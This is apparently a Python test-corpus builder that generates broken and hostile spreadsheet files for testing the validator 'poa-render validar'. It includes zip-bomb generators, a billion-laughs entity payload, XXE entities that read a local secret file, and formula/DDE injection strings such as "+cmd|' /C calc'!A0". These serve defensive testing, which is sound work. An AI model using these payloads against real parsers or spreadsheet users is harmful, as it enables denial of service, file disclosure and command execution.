"""A corpus of broken and hostile workbooks, made by code (issue #7).

Each :class:`Entry` knows how to write its file into a folder and what
``poa-render validar`` must answer: the fatal error code of a file that cannot
be read, or the located problems of a readable one.

    python tests/corpus.py CARPETA                 # write every file into CARPETA
    python tests/corpus.py --transcript docs/mensajes.md

The second form writes the corpus into a temporary folder, runs
``poa-render validar`` on each file and keeps the transcript: the catalogue of
messages. Files are built with the standard library (a small XLSX writer, a
small OLE2 compound-file writer) or with openpyxl through ``tests/builders.py``,
so nothing binary is checked in.
"""
from __future__ import annotations

import io
import os
import random
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterable
from xml.sax.saxutils import escape, quoteattr

if __package__ in (None, ""):
    sys.path.insert(0, str(Path(__file__).resolve().parent))
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

SECRET_NAME = "secreto.txt"
SECRET_MARKER = "SECRETO-LOCAL-7f3a9c"

# ---------------------------------------------------------------------------
# a small XLSX writer: full control over every XML part


class Raw(str):
    """Cell XML written as is inside ``<c r="..">...</c>`` (attributes after ``|``)."""


def _col(n: int) -> str:
    letters = ""
    while n:
        n, rem = divmod(n - 1, 26)
        letters = chr(65 + rem) + letters
    return letters


def _cell_xml(ref: str, value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, Raw):
        attrs, _, inner = value.partition("|") if "|" in value else ("", "", value)
        return f'<c r="{ref}"{(" " + attrs) if attrs else ""}>{inner}</c>'
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


def sheet_xml(rows: Iterable[Iterable[object]], merges: Iterable[str] = (), prolog: str = "") -> bytes:
    """A worksheet part; ``rows`` are lists of values from column A, row 1 down."""
    out = io.StringIO()
    out.write('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n')
    out.write(prolog)
    out.write('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    for r, row in enumerate(rows, start=1):
        cells = "".join(_cell_xml(f"{_col(c)}{r}", v) for c, v in enumerate(row, start=1))
        if cells:
            out.write(f'<row r="{r}">{cells}</row>')
    out.write("</sheetData>")
    merges = list(merges)
    if merges:
        out.write(f'<mergeCells count="{len(merges)}">')
        out.write("".join(f'<mergeCell ref="{m}"/>' for m in merges))
        out.write("</mergeCells>")
    out.write("</worksheet>")
    return out.getvalue().encode("utf-8")


# style 0 general, 1 a date (numFmt 14), 2 a percent (numFmt 9): for s="1" and s="2" in Raw cells
STYLES_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
    '<borders count="1"><border/></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="3"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>'
    '<xf numFmtId="9" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>'
    "</styleSheet>"
).encode()


def xlsx_parts(sheets: list[tuple[str, bytes]], hidden: Iterable[str] = ()) -> dict[str, bytes]:
    """Every part of a minimal workbook with these (name, sheet XML) pairs."""
    hidden = set(hidden)
    ct = [
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    ]
    wb_sheets, wb_rels = [], []
    parts: dict[str, bytes] = {}
    for i, (name, xml) in enumerate(sheets, start=1):
        ct.append(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        )
        state = ' state="hidden"' if name in hidden else ""
        wb_sheets.append(f'<sheet name={quoteattr(name)} sheetId="{i}"{state} r:id="rId{i}"/>')
        wb_rels.append(
            f'<Relationship Id="rId{i}" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            f'Target="worksheets/sheet{i}.xml"/>'
        )
        parts[f"xl/worksheets/sheet{i}.xml"] = xml
    ct.append(
        '<Override PartName="/xl/styles.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>'
    )
    parts["xl/styles.xml"] = STYLES_XML
    parts["[Content_Types].xml"] = "".join(ct).encode()
    parts["_rels/.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>'
    ).encode()
    parts["xl/workbook.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        + "".join(wb_sheets)
        + "</sheets></workbook>"
    ).encode("utf-8")
    parts["xl/_rels/workbook.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(wb_rels)
        + '<Relationship Id="rIdStyles" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>'
        + "</Relationships>"
    ).encode()
    # parts are written in this order: content types first, as Excel does
    order = ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"]
    return {k: parts[k] for k in order} | {k: v for k, v in parts.items() if k not in order}


def write_zip(path: Path, parts: dict[str, bytes], level: int = 6) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


# --- the contents of a capture workbook, as rows -----------------------------

GENERAL_ROWS: list[list[object]] = [
    ["AYUNTAMIENTO", "XXIV AYUNTAMIENTO DE MEXICALI DE BAJA CALIFORNIA"],
    ["EJERCICIO", 2023],
    ["TRIMESTRE", 2],
    ["FECHA", "30/06/2023"],
    ["BASE DEL PORCENTAJE", "META ANUAL"],
    ["TOLERANCIA", "10%"],
]

TABLE_HEADER = [
    "L/A", "NÚM.", "DESCRIPCIÓN DE METAS Y ACCIONES", "UNIDAD DE MEDIDA", "META ANUAL",
    "P1", "A1", "P2", "A2", "P3", "A3", "P4", "A4", "OBSERVACIONES",
]
# column letters of the table above, for expected locations
COL = {name: _col(i) for i, name in enumerate(
    ["la", "numero", "descripcion", "unidad", "meta", "p1", "a1", "p2", "a2", "p3", "a3", "p4", "a4", "obs"], start=1)}


def goal_row(numero: object = "303", descripcion: object = "REUNIONES CON ORGANISMOS", meta: object = 72,
             p: tuple = (12, 33, 19, 8), a: tuple = (12, 33, None, None), obs: object = "") -> list[object]:
    return ["3.1.2", numero, descripcion, "REUNIÓN", meta, p[0], a[0], p[1], a[1], p[2], a[2], p[3], a[3], obs]


def unit_rows(ramo: str = "59", ue: str = "201", goals: Iterable[list[object]] | None = None) -> tuple[list[list[object]], int]:
    """Rows of a valid unit sheet and the row number of its first goal."""
    rows: list[list[object]] = [
        ["RAMO", ramo, "COMISIÓN DE DESARROLLO INDUSTRIAL DE MEXICALI"],
        ["PROGRAMA", "592", "PROMOCIÓN Y ATRACCIÓN DE INVERSIONES"],
        ["UNIDAD EJECUTORA", ue, "DEPARTAMENTO DE PROMOCIÓN INDUSTRIAL"],
        ["FINALIDAD", "3", "DESARROLLO ECONÓMICO"],
        ["FUNCIÓN", "4", "MINERÍA, MANUFACTURA Y CONSTRUCCIÓN"],
        ["SUBFUNCIÓN", "2", "MANUFACTURA"],
        [],
        TABLE_HEADER,
    ]
    first = len(rows) + 1
    rows.extend(goals if goals is not None else [goal_row()])
    rows += [
        [],
        ["ELABORÓ", "LIC. AARÓN ÁLVAREZ MARÍN", "COORDINADOR DE PROMOCIÓN"],
        ["REVISÓ", "LIC. AARÓN ÁLVAREZ MARÍN", "DIRECTOR"],
        ["AUTORIZÓ", "LIC. AARÓN ÁLVAREZ MARÍN", "DIRECTOR"],
    ]
    return rows, first


def capture_parts(units: list[tuple[str, list[list[object]]]] | None = None,
                  general: list[list[object]] | None = None, merges: dict[str, list[str]] | None = None) -> dict[str, bytes]:
    merges = merges or {}
    if units is None:
        units = [("201 Promoción", unit_rows()[0])]
    sheets = [("GENERAL", sheet_xml(general if general is not None else GENERAL_ROWS))]
    sheets += [(name, sheet_xml(rows, merges.get(name, ()))) for name, rows in units]
    return xlsx_parts(sheets)


# ---------------------------------------------------------------------------
# a small OLE2 compound-file (CFB, version 3) writer, for .xls and protected files

_FREE, _END, _FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_NOSTREAM = 0xFFFFFFFF


def compound_file(streams: dict[str, bytes]) -> bytes:
    """A valid compound file with these streams in its root storage.

    Streams under 4096 bytes live in the mini stream, as the format requires.
    """
    sector, mini = 512, 64
    names = sorted(streams, key=lambda n: (len(n), n.upper()))  # CFB's name order
    small = [n for n in names if len(streams[n]) < 4096]
    big = [n for n in names if len(streams[n]) >= 4096]

    def sectors(size: int, unit: int) -> int:
        return (size + unit - 1) // unit

    # mini stream: small streams packed in 64-byte mini sectors
    mini_data, mini_fat, mini_start = bytearray(), [], {}
    for n in small:
        data = streams[n]
        count = max(1, sectors(len(data), mini))
        first = len(mini_fat)
        mini_start[n] = first
        mini_fat += [first + i + 1 for i in range(count - 1)] + [_END]
        mini_data += data.ljust(count * mini, b"\0")
    dir_entries = 1 + len(names)
    n_dir = sectors(dir_entries * 128, sector)
    n_minifat = sectors(len(mini_fat) * 4, sector) if mini_fat else 0
    n_ministream = sectors(len(mini_data), sector)
    n_big = [sectors(len(streams[n]), sector) for n in big]
    payload = n_dir + n_minifat + n_ministream + sum(n_big)
    n_fat = 1
    while n_fat * (sector // 4) < payload + n_fat:
        n_fat += 1
    assert n_fat <= 109, "too big for this small writer"

    fat: list[int] = [_FAT] * n_fat

    def chain(count: int) -> int:
        if count == 0:
            return _END
        first = len(fat)
        fat.extend(first + i + 1 for i in range(count - 1))
        fat.append(_END)
        return first

    dir_start = chain(n_dir)
    minifat_start = chain(n_minifat)
    ministream_start = chain(n_ministream)
    big_start = {n: chain(k) for n, k in zip(big, n_big)}
    fat += [_FREE] * (n_fat * (sector // 4) - len(fat))

    def entry(name: str, kind: int, start: int, size: int, left: int = _NOSTREAM, right: int = _NOSTREAM,
              child: int = _NOSTREAM) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)  # black
            + struct.pack("<III", left, right, child)
            + b"\0" * 16 + b"\0" * 4 + b"\0" * 16
            + struct.pack("<IQ", start, size)
        )

    # children of the root as a balanced binary tree over CFB order
    links: dict[int, tuple[int, int]] = {}

    def tree(lo: int, hi: int) -> int:
        if lo > hi:
            return _NOSTREAM
        mid = (lo + hi) // 2
        links[mid] = (tree(lo, mid - 1), tree(mid + 1, hi))
        return mid + 1  # entry 0 is the root

    top = tree(0, len(names) - 1)
    entries = [entry("Root Entry", 5, ministream_start if mini_data else _END, len(mini_data), child=top)]
    for i, n in enumerate(names):
        start = mini_start[n] if n in mini_start else big_start[n]
        left, right = links[i]
        entries.append(entry(n, 2, start, len(streams[n]), left, right))
    directory = b"".join(entries).ljust(n_dir * sector, b"\0")
    # unused directory slots must be empty entries with no siblings
    directory = bytearray(directory)
    for i in range(dir_entries, n_dir * sector // 128):
        directory[i * 128 + 68 : i * 128 + 80] = struct.pack("<III", _NOSTREAM, _NOSTREAM, _NOSTREAM)

    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 40, 0, n_fat, dir_start, 0, 4096,
                     minifat_start if n_minifat else _END, n_minifat, _END)
    struct.pack_into("<I", header, 72, 0)  # no DIFAT sectors
    difat = list(range(n_fat)) + [_FREE] * (109 - n_fat)
    struct.pack_into("<109I", header, 76, *difat)

    body = bytearray()
    body += struct.pack(f"<{len(fat)}I", *fat)
    body += directory
    if n_minifat:
        body += struct.pack(f"<{len(mini_fat)}I", *mini_fat).ljust(n_minifat * sector, b"\xff")
    body += bytes(mini_data).ljust(n_ministream * sector, b"\0")
    for n, k in zip(big, n_big):
        body += streams[n].ljust(k * sector, b"\0")
    return bytes(header) + bytes(body)


def biff8_workbook_stream() -> bytes:
    """A Workbook stream as an .xls holds: BOF (BIFF8, globals) ... EOF."""
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0x000100C1, 0x00000406)
    codepage = struct.pack("<HHH", 0x0042, 2, 1200)
    eof = struct.pack("<HH", 0x000A, 0)
    return (bof + codepage + eof).ljust(4608, b"\0")


def encrypted_package_streams(seed: int = 7) -> dict[str, bytes]:
    """The two streams Excel writes for a workbook with an opening password (agile encryption).

    The XML has every element and attribute Excel writes; salts, keys and the
    package are random bytes, so no password opens it.
    """
    import base64

    rng = random.Random(seed)

    def b64(size: int) -> str:
        return base64.b64encode(rng.randbytes(size)).decode()

    cipher = 'blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" ' \
             'hashAlgorithm="SHA512"'
    xml = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
        '<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" '
        'xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password" '
        'xmlns:c="http://schemas.microsoft.com/office/2006/keyEncryptor/certificate">'
        f'<keyData saltSize="16" {cipher} saltValue="{b64(16)}"/>'
        f'<dataIntegrity encryptedHmacKey="{b64(64)}" encryptedHmacValue="{b64(64)}"/>'
        '<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password">'
        f'<p:encryptedKey spinCount="100000" saltSize="16" {cipher} saltValue="{b64(16)}" '
        f'encryptedVerifierHashInput="{b64(16)}" encryptedVerifierHashValue="{b64(64)}" '
        f'encryptedKeyValue="{b64(32)}"/></keyEncryptor></keyEncryptors></encryption>'
    ).encode()
    info = struct.pack("<HHI", 4, 4, 0x40) + xml
    package = struct.pack("<Q", 7000) + rng.randbytes(8192)
    return {"EncryptionInfo": info, "EncryptedPackage": package}


# ---------------------------------------------------------------------------
# zip bombs, made without inflating anything on this side


def _zeros_deflate(total: int, chunk: int = 1 << 20) -> tuple[bytes, int]:
    """A raw deflate stream of ``total`` zero bytes and its CRC-32, cheaply.

    One chunk is compressed with a full flush (byte-aligned, no shared
    history) and its bytes repeated: a valid stream that never exists inflated here.
    """
    assert total % chunk == 0
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = comp.compress(b"\0" * chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15).flush(zlib.Z_FINISH)
    crc = 0
    zeros = b"\0" * chunk
    for _ in range(total // chunk):
        crc = zlib.crc32(zeros, crc)
    return block * (total // chunk) + tail, crc


def _zip_with_raw_member(parts: dict[str, bytes], name: str, deflated: bytes, crc: int, declared: int) -> bytes:
    """A zip with ``parts`` plus one member whose deflate data, CRC and declared size are given."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, data in parts.items():
            archive.writestr(part, data)
    existing = buf.getvalue()
    # append our member: local header + data, then rebuild the central directory
    with zipfile.ZipFile(io.BytesIO(existing)) as archive:
        infos = archive.infolist()
        cd_offset = archive.start_dir  # type: ignore[attr-defined]
    out = bytearray(existing[:cd_offset])
    offset = len(out)
    raw_name = name.encode()
    out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(deflated), declared, len(raw_name), 0)
    out += raw_name + deflated
    central = bytearray()
    for info in infos:
        fname = info.filename.encode()
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, info.CRC, info.compress_size,
            info.file_size, len(fname), 0, 0, 0, 0, 0, info.header_offset,
        ) + fname
    central += struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(deflated), declared,
        len(raw_name), 0, 0, 0, 0, 0, offset,
    ) + raw_name
    cd_start = len(out)
    out += central
    count = len(infos) + 1
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), cd_start, 0)
    return bytes(out)


# ---------------------------------------------------------------------------
# the corpus


@dataclass
class Entry:
    """One corpus file: how to make it and what validar must answer.

    ``fatal`` is the LibroError code for a file that cannot be read; otherwise
    ``problems`` lists (code, sheet, cell) that must be among the reported
    errors (cell None: any cell). ``exit_code`` is validar's.
    """

    name: str
    description: str
    make: Callable[[Path], None]
    fatal: str | None = None
    problems: list[tuple[str, str, str | None]] = field(default_factory=list)
    exit_code: int = 1
    big: bool = False  # slow to make or read: measured in its own test

    def write(self, folder: Path) -> Path:
        path = Path(folder) / self.name
        self.make(path)
        return path


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


def _parts(parts_fn: Callable[[], dict[str, bytes]]) -> Callable[[Path], None]:
    return lambda path: write_zip(path, parts_fn())


def _valid_xlsx_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in capture_parts().items():
            archive.writestr(name, data)
    return buf.getvalue()


def _truncated(path: Path) -> None:
    data = _valid_xlsx_bytes()
    path.write_bytes(data[: len(data) * 6 // 10])


def _corrupt_member(path: Path) -> None:
    """Central directory intact, but a sheet's compressed bytes damaged (as a bad e-mail gateway does)."""
    data = bytearray(_valid_xlsx_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("xl/worksheets/sheet2.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    for i in range(start + 10, start + min(info.compress_size, 60)):
        data[i] ^= 0x5A
    path.write_bytes(bytes(data))


def _zip_version(path: Path) -> None:
    """Central directory entries that need zip version 14.8: Python's zipfile raises NotImplementedError."""
    data = bytearray(_valid_xlsx_bytes())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 6:at + 8] = struct.pack("<H", 148)
        at = data.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(data))


def _ods(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr(
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
            compress_type=zipfile.ZIP_DEFLATED,
        )
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
            compress_type=zipfile.ZIP_DEFLATED,
        )


CSV_TEXT = (
    "RAMO;PROGRAMA;UNIDAD EJECUTORA;DESCRIPCIÓN DE METAS Y ACCIONES;META ANUAL\r\n"
    "59;592;201;Reuniones con organismos públicos y privados;72\r\n"
    "59;592;201;Empresas atendidas;15\r\n"
)


def _bomb_honest(path: Path) -> None:
    """A member that says, truthfully, that it inflates to 1 GiB (about 1 MB on disk)."""
    deflated, crc = _zeros_deflate(1 << 30)
    path.write_bytes(_zip_with_raw_member(capture_parts(), "xl/media/relleno.bin", deflated, crc, 1 << 30))


def _bomb_lying(path: Path) -> None:
    """A member whose header says 4 KB but whose data inflates to 1 GiB: only inflating tells."""
    deflated, _crc = _zeros_deflate(1 << 30)
    declared = 4096
    crc = zlib.crc32(b"\0" * declared)  # matches the first 4 KB, so zipfile alone would not notice
    path.write_bytes(_zip_with_raw_member(capture_parts(), "xl/media/relleno.bin", deflated, crc, declared))


def _bomb_members(path: Path) -> None:
    parts = capture_parts()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        for i in range(30_000):
            archive.writestr(f"xl/media/p{i}.xml", b"")


def _bomb_bzip2(path: Path) -> None:
    """A member compressed with bzip2, which Excel never writes and inflates without bound."""
    parts = capture_parts()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        archive.writestr("xl/media/relleno.bin", b"\0" * (1 << 20), compress_type=zipfile.ZIP_BZIP2)


_LAUGHS = (
    "<!DOCTYPE worksheet [\n <!ENTITY lol \"lol\">\n"
    + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
    + "]>\n"
)


def _billion_laughs(path: Path) -> None:
    parts = capture_parts()
    rows, _ = unit_rows()
    rows[0][2] = Raw('t="inlineStr"|<is><t>&lol9;</t></is>')
    parts["xl/worksheets/sheet2.xml"] = sheet_xml(rows, prolog=_LAUGHS)
    write_zip(path, parts)


def _xxe_prolog(folder: Path, root: str) -> str:
    target = (folder / SECRET_NAME).resolve().as_uri()
    return f'<!DOCTYPE {root} [\n <!ENTITY xxe SYSTEM "{target}">\n]>\n'


def _write_secret(folder: Path) -> None:
    (folder / SECRET_NAME).write_text(f"{SECRET_MARKER}\n", encoding="utf-8")


def _xxe_sheet(path: Path) -> None:
    _write_secret(path.parent)
    parts = capture_parts()
    rows, first = unit_rows()
    rows[0][2] = Raw('t="inlineStr"|<is><t>&xxe;</t></is>')
    rows[first - 1][13] = Raw('t="inlineStr"|<is><t>&xxe;</t></is>')
    parts["xl/worksheets/sheet2.xml"] = sheet_xml(rows, prolog=_xxe_prolog(path.parent, "worksheet"))
    write_zip(path, parts)


def _xxe_shared_strings(path: Path) -> None:
    _write_secret(path.parent)
    parts = capture_parts()
    rows, _ = unit_rows()
    rows[0][2] = Raw('t="s"|<v>0</v>')
    parts["xl/worksheets/sheet2.xml"] = sheet_xml(rows)
    parts["xl/sharedStrings.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        + _xxe_prolog(path.parent, "sst")
        + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
        "<si><t>&xxe;</t></si></sst>"
    ).encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" '
        b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    write_zip(path, parts)


def _xxe_workbook(path: Path) -> None:
    _write_secret(path.parent)
    parts = capture_parts()
    xml = parts["xl/workbook.xml"].decode()
    head, _, rest = xml.partition("\n")
    xml = head + "\n" + _xxe_prolog(path.parent, "workbook") + rest.replace('name="GENERAL"', 'name="&xxe;"')
    parts["xl/workbook.xml"] = xml.encode()
    write_zip(path, parts)


MANY_ROWS = 100_000
MANY_SHEETS = 2_000


def _many_rows(path: Path) -> None:
    goals = (goal_row(numero=str(i), a=(12, 33, None, None)) for i in range(1, MANY_ROWS + 1))
    rows, _ = unit_rows(goals=goals)
    write_zip(path, xlsx_parts([("GENERAL", sheet_xml(GENERAL_ROWS)), ("201 Promoción", sheet_xml(rows))]), level=1)


def _many_sheets(path: Path) -> None:
    sheets = [("GENERAL", sheet_xml(GENERAL_ROWS))]
    for i in range(1, MANY_SHEETS + 1):
        rows, _ = unit_rows(ue=str(100 + i))
        sheets.append((f"{100 + i} Unidad", sheet_xml(rows)))
    write_zip(path, xlsx_parts(sheets), level=1)


LONG = 50_000


def _far_row(path: Path) -> None:
    """One stray value in the last row Excel has: a million blank rows in between."""
    rows, _ = unit_rows()
    parts = capture_parts([("201 Promoción", rows)])
    xml = parts["xl/worksheets/sheet2.xml"].replace(
        b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    )
    parts["xl/worksheets/sheet2.xml"] = xml
    write_zip(path, parts)


def _long_cells(path: Path) -> None:
    rows, first = unit_rows()
    rows[0][2] = "COMISIÓN " * (LONG // 9 + 1)
    rows[first - 1][13] = ("Se explica el avance. " * (LONG // 22 + 1))[:LONG]
    write_zip(path, capture_parts([("201 Promoción", rows)]))


UNICODE_TEXT = "Reunión 会议 🎉👩🏽‍💼 مرحبا \u202eRLO\u202c fin"
CONTROL_TEXT = "Avance\x85con\x9b31mcontrol\x7f y \u200bancho-cero"


def _control_chars(path: Path) -> None:
    rows, first = unit_rows()
    rows[first - 1][2] = UNICODE_TEXT
    rows[first - 1][13] = CONTROL_TEXT
    rows[2][2] = "DEPARTAMENTO 🏭 産業振興課"
    # control characters XML cannot carry appear in files as _xHHHH_ escapes
    rows[first - 1][3] = "REUNIÓN_x001B_[2J"
    # a C1 control character around a number is dropped; an emoji in a number is an error
    rows[first - 1][5] = "12\x85"
    rows[first - 1][4] = "72 🎉"
    write_zip(path, capture_parts([("201 Promoción 🎉", rows)]))


INJECTIONS = (
    '=HYPERLINK("http://example.invalid/?x="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
)


def _injection(path: Path) -> None:
    goals = [goal_row(numero=str(300 + i), a=(12, 20, None, None), obs=text) for i, text in enumerate(INJECTIONS)]
    goals.append(goal_row(numero="=1+1", descripcion="=HYPERLINK(\"http://example.invalid\")", meta="=72"))
    rows, _ = unit_rows(goals=goals)
    write_zip(path, capture_parts([("201 Promoción", rows)]))


WEIRD_SHEETS = ("a/b\\c", "x:y*z?", "[corchetes]", "../../etc", "CON", "..")


def _weird_sheet_names(path: Path) -> None:
    units = []
    for i, name in enumerate(WEIRD_SHEETS):
        rows, first = unit_rows(ue=str(300 + i))
        units.append((name, rows))
    rows, first = unit_rows(ue="399")
    rows[first - 1][4] = "setenta"
    units.append(("PRN?/..", rows))
    write_zip(path, capture_parts(units))


def _duplicates(path: Path) -> None:
    write_zip(path, capture_parts([("201 A", unit_rows()[0]), ("201 B", unit_rows()[0]), ("201 C", unit_rows()[0])]))


def _merged_over_data(path: Path) -> None:
    rows, first = unit_rows(goals=[goal_row(), goal_row(numero="304")])
    # a merge that swallows meta anual, P1 and A1 of the first goal and the whole second goal row;
    # the hidden cells still hold values, as a careless generator leaves them
    merges = [f"{COL['meta']}{first}:{COL['a1']}{first}", f"A{first + 1}:{COL['obs']}{first + 1}"]
    rows[first][4] = None  # the second goal's META ANUAL lies under the merge and is blank
    write_zip(path, capture_parts([("201 Promoción", rows)], merges={"201 Promoción": merges}))


def _goal_after_signatures(path: Path) -> None:
    rows, _first = unit_rows()
    rows += [[], goal_row(numero="305", descripcion="META ESCRITA DEBAJO DE LAS FIRMAS")]
    write_zip(path, capture_parts([("201 Promoción", rows)]))


def _goal_in_header_block(path: Path) -> None:
    rows, _first = unit_rows()
    rows[6] = goal_row(numero="299", descripcion="META ESCRITA ARRIBA DE LA TABLA")
    write_zip(path, capture_parts([("201 Promoción", rows)]))


FOREIGN_ROWS: list[list[object]] = [
    ["PLAN DE ACCIÓN 2024 - SEGUIMIENTO"],
    ["Objetivo", "Actividad", "Indicador", "Responsable", "Avance %"],
    ["Fortalecer la gestión", "Capacitar al personal", "Cursos impartidos", "Secretaría General", 0.5],
    ["Mejorar la atención", "Ventanilla única", "Trámites atendidos", "Atención Ciudadana", 0.75],
]


def _foreign_sheet(path: Path) -> None:
    sheets = [("GENERAL", sheet_xml(GENERAL_ROWS)), ("201 Promoción", sheet_xml(unit_rows()[0])),
              ("Seguimiento", sheet_xml(FOREIGN_ROWS))]
    parts = xlsx_parts(sheets)
    write_zip(path, parts)


def _foreign_workbook(path: Path) -> None:
    write_zip(path, xlsx_parts([("POA 2024", sheet_xml(FOREIGN_ROWS)), ("Hoja2", sheet_xml(FOREIGN_ROWS[:2]))]))


def _header_in_one_cell(path: Path) -> None:
    rows, _first = unit_rows()
    rows[0] = ["RAMO: 59 COMISIÓN DE DESARROLLO INDUSTRIAL DE MEXICALI"]  # read as RAMO, 59, COMISIÓN...
    rows[1] = ["PROGRAMA: PROMOCIÓN Y ATRACCIÓN DE INVERSIONES"]  # no code
